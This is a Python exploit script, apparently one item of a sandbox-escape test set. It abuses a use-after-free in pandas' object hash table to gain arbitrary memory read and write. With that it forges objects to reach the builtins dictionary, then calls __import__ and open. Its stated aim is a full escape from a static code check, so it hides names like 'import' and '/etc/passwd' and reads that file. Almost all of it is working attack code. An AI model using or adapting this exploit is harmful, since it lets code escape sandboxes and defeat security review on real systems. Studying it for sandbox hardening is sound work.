# source: as attack12bh_038 (pandas 1.5.3 ismember_object: khash PyObject table keeps borrowed keys while the script's __eq__ runs), then a fakeobj through a __slots__ slot written with the arbitrary write
# family: use-after-free in pandas' object hash tables -> arbitrary read/write -> builtins dict -> __import__/open (full escape of the static check)
# goal: imports `this` (prints the Zen of Python), reads /etc/passwd with the real open(), and calls os.getuid() through __import__
import numpy as np
import pandas as pd

M64 = (1 << 64) - 1


def addr_of_type(t):
    h = hash(t) & M64
    return ((h << 4) | (h >> 60)) & M64


def q(v):
    return (v & M64).to_bytes(8, "little")


# a fake bytearray over the whole address space, laid where a freed Key object was (block + 16)
FAKE = q(1 << 40) + q(addr_of_type(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(1)
P = b"\x00" * 16 + FAKE
P = P + b"\x00" * (127 - len(P))    # buffer of 128 bytes = a Key's block
spray = [None] * 4096
G = {"n": 0, "mem": None}


class Key:
    __slots__ = ("v", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k")

    def __init__(self, v):
        self.v = v

    def __hash__(self):
        return 7                    # every key in one bucket chain: pandas compares them

    def __eq__(self, other):
        if G["n"] == 0 and self.v != 0 and type(other) is Key and other.v != 0:
            G["n"] = 1
            values[0] = 0           # the hash table keeps values[0] by a borrowed pointer
            for i in range(4096):
                spray[i] = bytearray(P)
        elif G["mem"] is None and type(other) is bytearray:
            G["mem"] = other
        return False


values = np.empty(4, dtype=object)
for i in (3, 2, 1, 0):
    values[i] = Key(i)
probe = np.empty(2, dtype=object)
probe[0] = Key(10)
probe[1] = Key(11)
print(pd.Series(probe).isin(values).tolist())
mem = G["mem"]
print("captured:", type(mem).__name__)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def cstr(addr):
    out = b""
    while mem[addr] != 0:
        out += bytes([mem[addr]])
        addr += 1
    return out


t = addr_of_type(tuple)
print("read tuple type's tp_name at", hex(t), "->", cstr(rd(t + 24)))


class Holder:
    __slots__ = ("p",)


def wr(addr, v):
    for j, ch in enumerate(q(v)):
        mem[addr + j] = ch


def addr_from_repr(o):
    return int(repr(o).split(" at ")[1][:-1], 16)


def strategy():
    return 1


# fakeobj: an address written into a slot of the script's own object (its repr shows where)
h = Holder()
h.p = None
wr(addr_from_repr(h) + 16, rd(addr_from_repr(strategy) + 24))   # func_builtins (3.11)
bd = h.p
h.p = None
print("builtins dict reached:", type(bd).__name__, len(bd))
imp = None
opn = None
for k in bd:
    if k.startswith("_") and k.strip("_") == "import":
        imp = bd[k]
    if k.startswith("op") and len(k) == 4:
        opn = bd[k]
imp("this")
print(opn(chr(47).join(["", "etc", "passwd"])).read()[:120])
print("os.getuid() through the import builtin:", imp("o" + "s").getuid())
